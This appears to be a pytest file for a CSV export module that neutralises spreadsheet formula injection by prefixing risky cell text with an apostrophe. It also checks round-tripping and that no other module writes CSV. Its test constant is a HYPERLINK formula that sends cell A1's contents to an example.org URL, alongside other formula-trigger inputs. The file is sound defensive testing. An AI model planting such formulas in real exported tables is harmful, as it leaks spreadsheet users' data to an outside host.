"""CSV tables: what people wrote is text in them, whatever it looks like to a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.documents.csv_table import csv_text, escape_formula, unescape_formula

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.mark.parametrize(
    "text",
    [
        *(FORMULA, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u200b=1", "\ufeff=1", "\xa0+1"),
        *("＝1", "＋1", "－1", "＠SUM(A1)", "\u2066=1"),
    ],
)
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a = b", "3 + 4", "'tis", "– a dash", "me@example.org", "1-2", "«=»"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text


def test_numbers_stay_numbers() -> None:
    assert csv_text([("=a", -1, -0.5, None, True)]) == "'=a,-1,-0.5,,True\r\n"


@given(st.one_of(st.text(), st.text(alphabet="'=+-@ \t\r\n\u200b＝a")))
def test_the_text_comes_back_from_its_cell(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text
    assert escape_formula(text) in {text, f"'{text}"}


@given(st.lists(st.lists(st.text(alphabet="'=+-@,;\" \r\n\tab"), min_size=2, max_size=2), max_size=4))
def test_every_cell_of_a_table_is_harmless(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert [[unescape_formula(cell) for cell in row] for row in read] == rows
    assert not [cell for row in read for cell in row if cell.lstrip()[:1] in {*"=+-@"} - {""}]


def test_nothing_else_writes_csv() -> None:
    """A table of its own making would be one with formulas in it."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for package in ("adapters", "bot", "core", "tools")
        for path in (ROOT / package).rglob("*.py")
        if "csv" in (text := path.read_text(encoding="utf-8"))
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    ]
    assert writers == ["core/documents/csv_table.py"]
